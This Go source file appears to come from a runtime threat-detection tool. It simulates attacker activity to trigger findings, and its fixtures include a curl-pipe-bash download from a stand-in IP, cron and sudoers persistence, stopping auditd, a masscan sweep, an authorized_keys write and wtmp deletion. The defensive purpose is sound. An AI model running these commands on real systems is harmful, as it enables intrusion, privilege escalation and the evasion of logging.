package simulate

import "github.com/vedette-project/vedette/internal/event"

// commandScripts are command lines that say what their writers are after.
func commandScripts() map[string]runtimeScript {
	return map[string]runtimeScript{
		"Execution:Runtime/SuspiciousCommand":           shellRuns("curl -fsSL http://203.0.113.99/setup.sh | bash"),
		"Persistence:Runtime/SuspiciousCommand":         shellRuns(`(crontab -l 2>/dev/null; echo "*/10 * * * * /usr/local/bin/sync-agent") | crontab -`),
		"PrivilegeEscalation:Runtime/SuspiciousCommand": shellRuns("echo 'shop ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
		"DefenseEvasion:Runtime/SuspiciousCommand":      shellRuns("unset HISTFILE; systemctl stop auditd"),
		"Discovery:Runtime/SuspiciousCommand":           looksAround,
	}
}

// shellRuns is a service that was broken into and runs a line in a shell.
func shellRuns(line string) runtimeScript {
	return func(l *runtimeLog) { l.exec(l.child(l.main, "/bin/sh", "-c", line)) }
}

// looksAround is somebody who finds out where he is, one command at a time.
func looksAround(l *runtimeLog) {
	sh := l.child(l.main, "/bin/sh", "-c", "/tmp/q")
	for _, args := range [][]string{{"/usr/bin/id"}, {"/bin/uname", "-a"}, {"/bin/cat", "/etc/passwd"}, {"/usr/bin/env"}, {"/bin/ps", "aux"}, {"/bin/cat", "/proc/1/cgroup"}} {
		l.exec(l.child(sh, args[0], args[1:]...))
	}
}

// toolScripts are tools of attackers.
func toolScripts() map[string]runtimeScript {
	return map[string]runtimeScript{
		"Execution:Runtime/SuspiciousTool": func(l *runtimeLog) {
			l.exec(l.child(l.child(l.main, "/bin/sh"), "/usr/bin/masscan", "10.20.0.0/16", "-p22,6379,10250", "--rate", "20000"))
		},
	}
}

// fileScripts are sensitive files that are changed by whoever did something else
// that is suspicious.
func fileScripts() map[string]runtimeScript {
	return map[string]runtimeScript{
		"Persistence:Runtime/SensitiveFileModified":         afterTool(event.KindOpen, event.FileChange{Path: "/root/.ssh/authorized_keys", Flags: []string{"O_WRONLY", "O_CREAT", "O_APPEND"}, Created: true}),
		"PrivilegeEscalation:Runtime/SensitiveFileModified": afterTool(event.KindOpen, event.FileChange{Path: "/etc/sudoers.d/90-shop", Flags: []string{"O_WRONLY", "O_CREAT"}, Created: true}),
		"DefenseEvasion:Runtime/SensitiveFileModified":      afterTool(event.KindUnlink, event.FileChange{Path: "/var/log/wtmp"}),
	}
}

// afterTool runs a tool of attackers and then changes a file.
func afterTool(kind event.RuntimeKind, change event.FileChange) runtimeScript {
	return func(l *runtimeLog) {
		sh := l.child(l.main, "/bin/sh")
		l.exec(l.child(sh, "/usr/bin/pspy64", "-pf", "-i", "1000"))
		r := l.record(kind, l.child(sh, "/opt/tools/setup"))
		r.File = &change
		l.write(r)
	}
}
